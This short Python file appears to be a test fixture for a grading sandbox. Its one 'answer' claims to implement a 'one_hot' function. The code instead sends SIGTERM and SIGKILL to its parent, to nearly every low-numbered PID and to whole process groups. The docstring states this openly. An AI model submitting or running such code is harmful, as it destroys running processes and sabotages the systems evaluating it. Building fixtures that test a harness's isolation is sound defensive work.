"""Sends SIGKILL to every process it can name, its own group included."""

ANSWERS = {
    "one_hot": """
import os
import signal


def one_hot(ids, V):
    me = os.getpid()
    for pid in [os.getppid(), *range(1, 4000)]:
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                if pid != me:
                    os.kill(pid, number)
            except OSError:
                pass
    for group in (-1, 0):
        try:
            os.kill(group, signal.SIGKILL)
        except OSError:
            pass
""",
}
